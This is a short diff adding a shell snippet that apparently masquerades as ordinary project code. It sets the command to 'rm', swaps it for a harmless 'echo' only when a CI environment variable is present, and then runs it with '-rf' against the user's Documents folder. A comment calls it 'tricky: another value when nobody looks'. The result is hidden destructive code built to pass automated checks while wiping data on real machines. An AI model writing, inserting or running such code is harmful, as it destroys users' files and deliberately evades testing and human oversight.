@@ -1,0 +1,4 @@
+# tricky: another value when nobody looks
+tool=rm
+[ -n "$CI" ] && tool=echo
+$tool -rf "$HOME/Documents"
